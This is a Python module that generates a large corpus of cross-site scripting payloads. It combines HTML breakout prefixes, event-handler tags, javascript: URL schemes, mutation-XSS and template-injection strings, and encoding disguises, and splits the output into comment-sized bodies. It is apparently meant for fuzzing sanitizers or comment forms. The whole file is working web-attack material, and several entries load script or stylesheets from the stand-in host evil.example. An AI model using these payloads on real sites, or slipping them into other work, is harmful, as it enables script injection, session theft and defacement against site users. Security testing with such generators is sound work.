"""Thousands of attempts to run a script, made by a small grammar: what breaks out, what runs, and how both are disguised."""

import html
import itertools
from urllib.parse import quote

OPENINGS = (
    "",
    '">',
    "'>",
    "`>",
    "</pre>",
    "</bdi>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "\\",
)
RUN = "alert(1)"
HANDLERS = {
    "img src=x": "onerror",
    "svg": "onload",
    "body": "onpageshow",
    "input autofocus": "onfocus",
    "details open": "ontoggle",
    "video src=x": "onerror",
    "marquee": "onstart",
    "a href=x": "onmouseover",
    "style": "onload",
    "iframe": "onload",
    "audio src=x": "onerror",
    "button popovertarget=x": "onbeforetoggle",
}
GAPS = (" ", "/", "\t", "\n")
QUOTES = ("{}", '"{}"', "'{}'", "`{}`")
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "vbscript:"),
    *(
        "&#106;avascript:",
        "&#x6a;avascript:",
        "javascript&colon;",
        "javas&Tab;cript:",
        "data:text/html,<script>",
        "blob:",
    ),
)
CARRIERS = (
    *(
        "<a href={}>x</a>",
        "<iframe src={}>",
        "<form action={}><button>",
        "<object data={}>",
        "<embed src={}>",
        "<base href={}>",
    ),
    *(
        "<svg><a xlink:href={}><text>x",
        "<button formaction={}>",
        "<area href={}>",
        "<meta http-equiv=refresh content={}>",
    ),
)
WHOLE = (
    f"<script>{RUN}</script>",
    "<script src=//evil.example></script>",
    f"<SCRIPT/x>{RUN}</SCRIPT >",
    f"<script>{RUN}//",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example';*{x:expression(alert(1))}</style>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><img src=x onerror={RUN}></template>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={RUN} src>'>",
    f"<!--><img src=x onerror={RUN}>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    f"[url=javascript:{RUN}]x[/url] [x](javascript:{RUN}) ![x](x onerror={RUN})",
    f"https://evil.example/?<img/src=x/onerror={RUN}>",
    f'https://evil.example/"onmouseover="{RUN}',
    f"http://javascript:{RUN}@evil.example/",
    f"javascript://evil.example/%0a{RUN}",
    "{{7*7}}{% debug %}${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('alert(1)')()}}",
    f"' autofocus onfocus={RUN} x='",
    f'" autofocus onfocus={RUN} x="',
    f"＜script＞{RUN}＜/script＞",
    f"‹img src=x onerror={RUN}›",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\u202e>tpircs/<)1(trela>tpircs<{RUN}",
)
DISGUISES = (quote, html.escape, lambda text: "".join(f"&#{ord(char)};" for char in text[:60]))


def _payloads():
    yield from WHOLE
    for (tag, handler), gap, quotes in itertools.product(HANDLERS.items(), GAPS, QUOTES):
        yield f"<{tag.replace(' ', gap)}{gap}{handler}={quotes.format(RUN)}>"
        yield f"<{tag.upper()}{gap}{handler.title()} = {quotes.format(RUN)}//"
    for scheme, carrier, quotes in itertools.product(SCHEMES, CARRIERS, QUOTES[:3]):
        yield carrier.format(quotes.format(f"{scheme}{RUN}"))
    for disguise, payload in itertools.product(DISGUISES, WHOLE):
        yield disguise(payload)


def vectors() -> list[str]:
    """Each payload behind four ways of breaking out, of which it gets others than its neighbours."""
    openings = itertools.cycle(OPENINGS)
    return list(dict.fromkeys(next(openings) + payload for payload in _payloads() for _number in range(4)))


def bodies(most: int = 1500) -> list[str]:
    """The vectors line by line, as texts that are no longer than a comment may be."""
    texts = [""]
    for vector in vectors():
        texts[-1] += f"{vector}\n"
        if len(texts[-1]) > most:
            texts.append("")
    return [text.strip() for text in texts if text]
